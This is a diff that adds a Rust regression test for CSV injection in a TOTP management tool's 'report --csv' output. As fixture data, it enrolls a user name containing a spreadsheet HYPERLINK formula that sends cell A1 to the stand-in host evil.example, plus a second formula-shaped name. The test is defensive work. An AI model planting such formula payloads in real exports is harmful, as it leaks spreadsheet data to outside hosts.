@@ -81,3 +81,38 @@ fn ok_bytes(out: &std::process::Output) -> Vec<u8> {
     out.stdout.clone()
 }
 
+/// `report --csv` is "for a spreadsheet" but quotes only `,`, `"`, CR and
+/// LF: a user name that starts with `=`, `+`, `-` or `@` reaches the
+/// administrator's spreadsheet as a formula (CSV injection). Such names
+/// come from the name service, or from a help desk's `enroll NAME
+/// --allow-unknown-user` (allowed through sudo; config::check_name refuses
+/// only spaces, control characters and `/`).
+#[test]
+fn report_csv_never_starts_a_field_with_a_formula() {
+    let world = World::new();
+    let name = "=HYPERLINK(\"https:\"&CHAR(47)&CHAR(47)&\"evil.example?\"&A1,\"help\")";
+    ok(&world.totpctl(&[
+        "enroll",
+        name,
+        "--allow-unknown-user",
+        "--secret",
+        &common::random_secret(),
+    ]));
+    ok(&world.totpctl(&[
+        "enroll",
+        "@SUM(1+1)",
+        "--allow-unknown-user",
+        "--secret",
+        &common::random_secret(),
+    ]));
+    let csv = ok(&world.totpctl(&["report", "--csv"]));
+    for line in csv.lines().skip(1) {
+        // The first field, unquoted as a spreadsheet reads it.
+        let first = line.trim_start_matches('"');
+        assert!(
+            !first.starts_with(['=', '+', '-', '@']),
+            "a CSV cell starts a formula: {line:?}\n{csv}"
+        );
+    }
+}
+
